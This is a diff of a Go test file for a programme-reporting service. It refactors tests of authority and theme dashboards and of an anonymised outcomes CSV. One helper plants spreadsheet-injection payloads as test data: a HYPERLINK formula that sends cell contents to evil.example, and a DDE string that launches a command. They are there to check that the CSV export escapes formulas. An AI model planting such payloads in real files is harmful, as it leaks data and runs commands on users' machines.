@@ -1,10 +1,9 @@
-package starter
+package reports_test
 
 import (
 	"bytes"
 	"context"
 	"encoding/csv"
-	"encoding/json"
 	"errors"
 	"fmt"
 	"maps"
@@ -15,116 +14,28 @@ import (
 	"strings"
 	"testing"
 	"time"
-	"unicode"
 
 	"github.com/google/uuid"
 
+	"github.com/infuse-cymru/journeys/internal/app/apptest"
+	"github.com/infuse-cymru/journeys/internal/app/reports"
 	"github.com/infuse-cymru/journeys/internal/testdeps"
+	"github.com/infuse-cymru/journeys/starter"
 	"github.com/infuse-cymru/journeys/store"
+	"github.com/infuse-cymru/journeys/store/sqlitestore"
 )
-
-// cohort is a store-only intake with people and journeys recorded the way
-// the workflows record them (events carrying snapshots), for the read
-// models that need no Temporal.
-type cohort struct {
-	s           *Service
-	intake      store.Intake
-	coordinator store.Person
-	coach       store.Person
-	seq         int
-}
-
-func newCohort(t *testing.T, s *Service, name string) *cohort {
-	t.Helper()
-	// Addresses from the name's letters and digits, whatever else it holds.
-	local := strings.ToLower(strings.Map(func(r rune) rune {
-		if r < 128 && (unicode.IsLetter(r) || unicode.IsDigit(r)) {
-			return r
-		}
-		return -1
-	}, name))
-	c := &cohort{s: s,
-		coordinator: store.Person{ID: uuid.New(), Role: store.RoleCoordinator, GivenName: "Megan", FamilyName: "Howells",
-			EmailAddress: "megan." + local + "@example.org"},
-		coach: store.Person{ID: uuid.New(), Role: store.RoleCoach, GivenName: "Elin", FamilyName: "Rowlands",
-			EmailAddress: "elin." + local + "@example.org"},
-	}
-	ctx := context.Background()
-	if err := s.Store.CreatePeople(ctx, []store.Person{c.coordinator, c.coach}); err != nil {
-		t.Fatal(err)
-	}
-	c.intake = store.Intake{ID: uuid.New(), Name: name, ProgrammeID: "infuse", ProgrammeVersion: 1,
-		CoordinatorID: c.coordinator.ID, Capacity: 20, Status: store.IntakeOpen,
-		OpensAt: time.Now(), ClosesAt: time.Now().Add(24 * time.Hour), StartsOn: time.Now().Add(72 * time.Hour)}
-	if err := s.Store.CreateIntake(ctx, c.intake); err != nil {
-		t.Fatal(err)
-	}
-	return c
-}
-
-// participant stores a participant of the authority and theme.
-func (c *cohort) participant(t *testing.T, given, family, la, theme string) store.Person {
-	t.Helper()
-	p := store.Person{ID: uuid.New(), Role: store.RoleParticipant, GivenName: given, FamilyName: family,
-		EmailAddress: strings.ToLower(given+"."+family) + "@example.org", LocalAuthority: la, Theme: theme}
-	if err := c.s.Store.CreatePeople(context.Background(), []store.Person{p}); err != nil {
-		t.Fatal(err)
-	}
-	return p
-}
-
-// record appends an event of journey for person with the cohort's coach;
-// item, if any, is the schedule item it is about.
-func (c *cohort) record(t *testing.T, journey uuid.UUID, person store.Person, typ, item, state, outcome string, msgs ...store.Message) {
-	t.Helper()
-	c.seq++
-	data := json.RawMessage(`{}`)
-	if item != "" {
-		data = json.RawMessage(fmt.Sprintf(`{"item":%q}`, item))
-	}
-	_, err := c.s.Store.Record(context.Background(), store.Event{
-		Key: fmt.Sprintf("test/%s/%d", c.intake.ID, c.seq), IntakeID: c.intake.ID, JourneyID: journey, Type: typ,
-		OccurredAt: time.Date(2021, 10, 1, 9, 0, 0, 0, time.UTC).Add(time.Duration(c.seq) * time.Hour), Data: data,
-		Snapshot: &store.JourneySnapshot{JourneyID: journey, IntakeID: c.intake.ID, PersonID: person.ID, CoachID: c.coach.ID,
-			State: state, Outcome: outcome},
-	}, msgs...)
-	if err != nil {
-		t.Fatal(err)
-	}
-}
-
-// threeJourneys records a completed journey (Cardiff, decarbonisation,
-// two sessions attended: a third was recorded present, then absent), a
-// withdrawn one (Cardiff, communities) and one in the labs (Newport).
-func threeJourneys(t *testing.T, c *cohort) (people []store.Person, journeys []uuid.UUID) {
-	people = []store.Person{
-		c.participant(t, "Carys", "Pritchard", "Cardiff", "decarbonisation"),
-		c.participant(t, "Tom", "Ashworth", "Cardiff", "communities"),
-		c.participant(t, "Gwenllïan", "Evans", "Newport", "decarbonisation"),
-	}
-	journeys = []uuid.UUID{uuid.New(), uuid.New(), uuid.New()}
-	c.record(t, journeys[0], people[0], "programme.scheduled", "", "awaiting_start", "")
-	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/1", "in_labs", "")
-	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/2", "in_labs", "")
-	c.record(t, journeys[0], people[0], "attendance.present", "adaption-lab/3", "in_labs", "")
-	c.record(t, journeys[0], people[0], "attendance.absent", "adaption-lab/3", "in_labs", "")
-	c.record(t, journeys[0], people[0], "checkpoint.completed", "checkpoint/1", "experimenting", "")
-	c.record(t, journeys[0], people[0], "journey.completed", "", "completed", "completed")
-	c.record(t, journeys[1], people[1], "journey.withdrawn", "", "withdrawn", "withdrawn")
-	c.record(t, journeys[2], people[2], "phase.started", "", "in_labs", "")
-	return people, journeys
-}
 
 func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 	ctx := context.Background()
-	s := storeOnly(t)
-	c := newCohort(t, s, "Cohort 1")
-	threeJourneys(t, c)
+	st := sqlitestore.OpenTest(t)
+	s := reports.New(st)
+	c := apptest.NewCohort(t, st, "Cohort 1")
+	c.ThreeJourneys(t)
 	// Another intake's journey counts across intakes, not in Cohort 1's.
-	other := newCohort(t, s, "Cohort 2")
-	other.record(t, uuid.New(), other.participant(t, "Priya", "Sharma", "Cardiff", "communities"), "application.submitted", "", "submitted", "")
+	other := apptest.NewCohort(t, st, "Cohort 2")
+	other.Record(t, uuid.New(), other.Participant(t, "Priya", "Sharma", "Cardiff", "communities"), "application.submitted", "", "submitted", "")
 
-	r, err := s.DashboardByAuthority(ctx, c.intake.ID)
+	r, err := s.ByAuthority(ctx, c.Intake.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -132,10 +43,10 @@ func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 	for _, g := range r.Groups {
 		names = append(names, g.Name)
 	}
-	if !slices.Equal(names, LocalAuthorities) {
+	if !slices.Equal(names, starter.LocalAuthorities) {
 		t.Fatalf("groups %q, want the ten authorities in order", names)
 	}
-	got := map[string]GroupCounts{}
+	got := map[string]reports.GroupCounts{}
 	for _, g := range r.Groups {
 		got[g.Name] = g
 	}
@@ -152,7 +63,7 @@ func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 		t.Errorf("Bridgend = %+v, want zero counts with empty maps", b)
 	}
 
-	all, err := s.DashboardByAuthority(ctx, uuid.Nil)
+	all, err := s.ByAuthority(ctx, uuid.Nil)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -160,7 +71,7 @@ func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 		t.Errorf("across intakes, Cardiff = %+v", all.Groups[3])
 	}
 
-	themes, err := s.DashboardByTheme(ctx, c.intake.ID)
+	themes, err := s.ByTheme(ctx, c.Intake.ID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -168,13 +79,13 @@ func TestDashboardByAuthorityListsAllTen(t *testing.T) {
 		themes.Groups[1].Journeys != 1 {
 		t.Errorf("themes = %+v", themes.Groups)
 	}
-	if _, err := s.DashboardByTheme(ctx, uuid.New()); !errors.Is(err, ErrNotFound) {
-		t.Errorf("unknown intake: %v, want ErrNotFound", err)
+	if _, err := s.ByTheme(ctx, uuid.New()); !errors.Is(err, starter.ErrNotFound) {
+		t.Errorf("unknown intake: %v, want starter.ErrNotFound", err)
 	}
 }
 
 // outcomesCSV is the intake's outcomes file, as rows and as written.
-func outcomesCSV(t *testing.T, s *Service, intakeID uuid.UUID) ([][]string, *bytes.Buffer) {
+func outcomesCSV(t *testing.T, s *reports.Service, intakeID uuid.UUID) ([][]string, *bytes.Buffer) {
 	t.Helper()
 	var b bytes.Buffer
 	if err := s.WriteOutcomesCSV(context.Background(), intakeID, &b); err != nil {
@@ -188,12 +99,13 @@ func outcomesCSV(t *testing.T, s *Service, intakeID uuid.UUID) ([][]string, *byt
 }
 
 func TestOutcomesCSVNamesNobody(t *testing.T) {
-	s := storeOnly(t)
-	c := newCohort(t, s, "Cohort 1")
-	people, journeys := threeJourneys(t, c)
+	st := sqlitestore.OpenTest(t)
+	s := reports.New(st)
+	c := apptest.NewCohort(t, st, "Cohort 1")
+	people, journeys := c.ThreeJourneys(t)
 
-	rows, b := outcomesCSV(t, s, c.intake.ID)
-	if len(rows) != 1+len(journeys) || !slices.Equal(rows[0], OutcomesCSVColumns) {
+	rows, b := outcomesCSV(t, s, c.Intake.ID)
+	if len(rows) != 1+len(journeys) || !slices.Equal(rows[0], reports.OutcomesCSVColumns) {
 		t.Fatalf("want a header and %d rows:\n%s", len(journeys), b.String())
 	}
 	byJourney := map[string]map[string]string{}
@@ -213,7 +125,7 @@ func TestOutcomesCSVNamesNobody(t *testing.T) {
 	if running := byJourney[journeys[2].String()]; running["outcome"] != "" || running["ended_at"] != "" || running["sessions_attended"] != "0" {
 		t.Errorf("running journey's row = %v", running)
 	}
-	for _, p := range append(people, c.coach, c.coordinator) {
+	for _, p := range append(people, c.Coach, c.Coordinator) {
 		for _, personal := range []string{p.GivenName, p.FamilyName, p.EmailAddress, "@"} {
 			if strings.Contains(b.String(), personal) {
 				t.Errorf("the funders' CSV contains %q:\n%s", personal, b.String())
@@ -237,9 +149,10 @@ const formulaStart = "=+-@\t\r"
 // (intake name, local authority, theme).
 func hostileOutcomes(t *testing.T) (rows [][]string, csvFile []byte, recorded map[string][3]string) {
 	t.Helper()
-	s := storeOnly(t)
+	st := sqlitestore.OpenTest(t)
+	s := reports.New(st)
 	name := `=HYPERLINK("http://evil.example/?"&A1,"Cohort 1")`
-	c := newCohort(t, s, name)
+	c := apptest.NewCohort(t, st, name)
 	recorded = map[string][3]string{}
 	for i, cell := range [][2]string{
 		{"+cmd|' /C calc'!A0", "@SUM(1+1)"},
@@ -248,10 +161,10 @@ func hostileOutcomes(t *testing.T) (rows [][]string, csvFile []byte, recorded ma
 		{"Cardiff", "communities"},
 	} {
 		j := uuid.New()
-		c.record(t, j, c.participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
+		c.Record(t, j, c.Participant(t, fmt.Sprintf("Person%d", i), "Jones", cell[0], cell[1]), "phase.started", "", "in_labs", "")
 		recorded[j.String()] = [3]string{name, cell[0], cell[1]}
 	}
-	rows, b := outcomesCSV(t, s, c.intake.ID)
+	rows, b := outcomesCSV(t, s, c.Intake.ID)
 	if len(rows) != 1+len(recorded) {
 		t.Fatalf("want a header and %d rows:\n%s", len(recorded), b.String())
 	}
@@ -323,13 +236,14 @@ func TestOutcomesCSVInASpreadsheet(t *testing.T) {
 // IDs whatever order they were recorded in.
 func TestDashboardOrderAndCounts(t *testing.T) {
 	ctx := context.Background()
-	s := storeOnly(t)
-	c := newCohort(t, s, "Cohort 1")
-	zed, ann := c.participant(t, "Zed", "Morgan", "Cardiff", "communities"), c.participant(t, "Ann", "Jones", "Newport", "communities")
-	erased := c.participant(t, "Bryn", "Hughes", "Torfaen", "communities")
+	st := sqlitestore.OpenTest(t)
+	s := reports.New(st)
+	c := apptest.NewCohort(t, st, "Cohort 1")
+	zed, ann := c.Participant(t, "Zed", "Morgan", "Cardiff", "communities"), c.Participant(t, "Ann", "Jones", "Newport", "communities")
+	erased := c.Participant(t, "Bryn", "Hughes", "Torfaen", "communities")
 	ann2 := store.Person{ID: uuid.New(), Role: store.RoleParticipant, GivenName: "Ann", FamilyName: "Jones",
 		EmailAddress: "ann.jones2@example.org", LocalAuthority: "Newport", Theme: "decarbonisation"}
-	if err := s.Store.CreatePeople(ctx, []store.Person{ann2}); err != nil {
+	if err := st.CreatePeople(ctx, []store.Person{ann2}); err != nil {
 		t.Fatal(err)
 	}
 	gone := store.Person{ID: uuid.New()} // never stored
@@ -345,13 +259,13 @@ func TestDashboardOrderAndCounts(t *testing.T) {
 		state  string
 	}{{zed, "in_labs"}, {ann, "in_labs"}, {ann2, "withdrawn"}, {erased, "in_labs"}, {gone, "submitted"}}
 	for i, r := range recorded {
-		c.record(t, ids[i], r.person, "phase.started", "", r.state, "")
+		c.Record(t, ids[i], r.person, "phase.started", "", r.state, "")
 	}
-	if _, err := s.Store.ErasePerson(ctx, erased.ID, time.Now()); err != nil {
+	if _, err := st.ErasePerson(ctx, erased.ID, time.Now()); err != nil {
 		t.Fatal(err)
 	}
 
-	d, err := s.IntakeDashboard(ctx, c.intake.ID, DashboardPage{})
+	d, err := starter.New(nil, st).IntakeDashboard(ctx, c.Intake.ID, starter.DashboardPage{})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -360,7 +274,7 @@ func TestDashboardOrderAndCounts(t *testing.T) {
 	want := []struct {
 		name string
 		id   uuid.UUID
-	}{{"Ann Jones", ids[2]}, {"Ann Jones", ids[1]}, {"Zed Morgan", ids[0]}, {erasedName, ids[4]}, {erasedName, ids[3]}}
+	}{{"Ann Jones", ids[2]}, {"Ann Jones", ids[1]}, {"Zed Morgan", ids[0]}, {starter.ErasedName, ids[4]}, {starter.ErasedName, ids[3]}}
 	if len(d.Rows) != len(want) {
 		t.Fatalf("the dashboard has %d rows, want %d: %+v", len(d.Rows), len(want), d.Rows)
 	}
@@ -376,7 +290,7 @@ func TestDashboardOrderAndCounts(t *testing.T) {
 		t.Errorf("counts by authority %v, want %v (the erased keep theirs, the gone have none)", d.ByLocalAuthority, w)
 	}
 
-	rows, b := outcomesCSV(t, s, c.intake.ID)
+	rows, b := outcomesCSV(t, s, c.Intake.ID)
 	if len(rows) != 1+len(ids) {
 		t.Fatalf("want a header and %d rows:\n%s", len(ids), b.String())
 	}
